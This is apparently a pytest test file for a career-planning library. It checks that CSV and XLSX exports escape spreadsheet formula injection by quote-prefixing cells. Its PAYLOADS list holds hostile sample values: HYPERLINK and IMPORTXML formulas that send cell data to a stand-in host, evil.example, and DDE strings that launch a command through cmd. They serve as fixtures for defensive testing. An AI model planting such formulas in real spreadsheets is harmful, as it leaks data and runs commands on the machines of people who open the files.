"""Issue 16, spreadsheet formula injection: text a spreadsheet would run is written as text.

OWASP's rule, on every sheet and in every text cell: a cell starting with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading ``'``;
in a workbook no cell is a formula.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from careerlib import ExportError, export, load_plan
from careerlib._spreadsheet import EXCEL_CELL_LIMIT, safe_cell
from careerlib.cli import cli
from careerlib.scheduling.scheduler import schedule

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1, "Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "a title\r=1+1 after a carriage return",
    "＝1+1",
    '=IMPORTXML(CONCAT("http://evil.example/?v=", A2), "//a")',
]


def _quoted(text: str) -> str:
    return text.replace('"', '\\"')


@pytest.fixture()
def hostile_plan(tmp_path: Path) -> Path:
    steps = "\n".join(
        f'  - {{id: s{i}, title: "{_quoted(p)}", duration: 3d, goal: g{i % 2}, route: r{i % 2}}}'
        for i, p in enumerate(PAYLOADS)
    )
    text = (
        f'title: "{_quoted(PAYLOADS[0])}"\nowner: "{_quoted(PAYLOADS[3])}"\n'
        "start: 2026-10-01\ntarget: 2027-04-30\n"
        f'goals:\n  - {{id: g0, title: "=1", level: personal}}\n'
        f'  - {{id: g1, title: "@x", level: professional}}\n'
        f'routes:\n  - {{id: r0, title: "-r"}}\n  - {{id: r1, title: "+r"}}\n'
        f"steps:\n{steps}\n  - {{id: -lead, title: plain, duration: 2d}}\n"
    )
    path = tmp_path / "plan.yaml"
    path.write_text(text.replace("\t", "\\t").replace("\r", "\\r"))
    return path


DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def test_csv_cells_are_text(hostile_plan: Path, tmp_path: Path) -> None:
    out = tmp_path / "plan.csv"
    result = CliRunner().invoke(cli, ["export", str(hostile_plan), "-o", str(out)])
    assert result.exit_code == 0, result.stderr
    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8"), newline="")))
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c.startswith(DANGEROUS)]
    titles = [row[1] for row in rows[1:]]
    assert len(rows) == len(PAYLOADS) + 2  # no title broke a row in two
    for payload in PAYLOADS:  # the text is all there, after the quote (\r as a line break)
        assert safe_cell(payload.replace("\r", "\n")) in titles
    assert "'-lead" in [row[0] for row in rows]  # a step id starting with '-'
    # numbers stay numbers: negative slack is not text
    assert all(row[7].lstrip("-").isdigit() for row in rows[1:])


def test_xlsx_has_no_formula_on_any_sheet(hostile_plan: Path, tmp_path: Path) -> None:
    out = tmp_path / "plan.xlsx"
    result = CliRunner().invoke(cli, ["export", str(hostile_plan), "-o", str(out)])
    assert result.exit_code == 0, result.stderr
    book = openpyxl.load_workbook(out)
    assert book.sheetnames == ["Schedule", "Plan", "About the columns"]
    seen = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(DANGEROUS), (sheet.title, cell.value)
                    seen.add(cell.value)
    assert "'" + PAYLOADS[0] in seen  # the plan title on the Plan sheet
    assert "'" + PAYLOADS[3] in seen  # the owner
    # (XML reads a carriage return as a line feed)
    assert {safe_cell(p).replace("\r", "\n") for p in PAYLOADS} <= seen
    # the raw XML holds no <f> (formula) element
    import zipfile

    with zipfile.ZipFile(out) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name)


def test_xlsx_cells_keep_the_quote_prefix_style(hostile_plan: Path, tmp_path: Path) -> None:
    out = export(schedule(load_plan(hostile_plan)), tmp_path / "plan.xlsx")
    sheet = openpyxl.load_workbook(out)["Schedule"]
    quoted = [c for c in sheet["B"] if isinstance(c.value, str) and c.value.startswith("'")]
    assert quoted and all(c.quotePrefix for c in quoted)


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("plain", "plain"),
        ("a=1", "a=1"),
        ("", ""),
        (-3, -3),
        (2.5, 2.5),
        (None, None),
        ("@", "'@"),
        ("\n=1", "'\n=1"),
    ],
)
def test_safe_cell(value: object, safe: object) -> None:
    assert safe_cell(value) == safe


def test_a_title_over_excels_cell_limit_is_refused_clearly(tmp_path: Path) -> None:
    plan = tmp_path / "plan.yaml"
    long = "x" * (EXCEL_CELL_LIMIT + 1)
    plan.write_text(
        "title: T\nstart: 2026-10-01\ntarget: 2027-04-30\n"
        f"steps:\n  - {{id: a, title: {long}, duration: 3d}}\n"
    )
    out = tmp_path / "plan.xlsx"
    with pytest.raises(ExportError, match=r"32,768 characters; an Excel cell holds at most 32,767"):
        export(schedule(load_plan(plan)), out)
    result = CliRunner().invoke(cli, ["export", str(plan), "-o", str(out)])
    assert result.exit_code == 2
    assert result.stderr.startswith("careerlib: ") and result.stderr.count("\n") == 1
    assert "sheet 'Schedule', step 'a', title" in result.stderr
    assert not out.exists()
    # CSV has no such limit: the whole title is written
    csv_out = tmp_path / "plan.csv"
    assert CliRunner().invoke(cli, ["export", str(plan), "-o", str(csv_out)]).exit_code == 0
    assert long in csv_out.read_text()
